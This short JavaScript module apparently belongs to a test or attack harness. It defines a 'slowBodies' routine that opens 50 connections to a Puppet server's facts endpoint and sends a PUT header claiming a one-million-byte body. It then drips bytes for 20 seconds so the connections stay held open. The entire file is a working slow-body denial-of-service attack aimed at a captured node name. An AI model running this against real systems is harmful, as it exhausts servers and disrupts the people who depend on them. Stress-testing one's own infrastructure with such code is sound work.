// Bodies that come byte by byte and never end.
import { captured } from '../place.js'
import { dripping } from './held-open.js'

const name = captured[1]
const head = `PUT /puppet/v3/facts/${name}?environment=production HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000000\r\n\r\n{`

export const slowBodies = {
  every: 25,
  act: ({ together, ...attack }) =>
    together(50, async () => {
      const socket = await attack.secured(name)
      if (typeof socket !== 'string') socket.write(head)
      return dripping(socket, attack, 20_000)
    }),
}
